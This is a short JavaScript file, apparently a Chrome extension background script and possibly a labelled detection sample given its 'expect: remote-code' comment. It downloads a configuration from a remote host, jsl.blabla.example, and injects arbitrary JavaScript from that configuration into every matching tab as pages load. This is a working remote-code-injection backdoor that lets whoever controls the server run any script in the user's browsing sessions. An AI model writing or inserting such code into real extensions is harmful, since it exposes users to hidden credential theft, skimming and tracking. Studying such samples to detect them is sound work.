function load(cb) {
  var x = new XMLHttpRequest();
  x.onreadystatechange = function () { if (x.readyState == 4 && x.status == 200) cb(JSON.parse(x.responseText)); };
  x.open('GET', 'http://jsl.blabla.example/get?d=' + new Date().getTime(), true);
  x.send(null);
}
load(function (conf) { localStorage['conf'] = JSON.stringify(conf); });
chrome.tabs.onUpdated.addListener(function (id, ch, tab) {
  if (ch.status != 'complete') return;
  var conf = JSON.parse(localStorage['conf'] || '{}');
  for (var i in conf.items) {
    // expect: remote-code
    if (tab.url.match(conf.items[i].re)) chrome.tabs.executeScript(id, { code: conf.items[i].js, runAt: 'document_end' });
  }
});
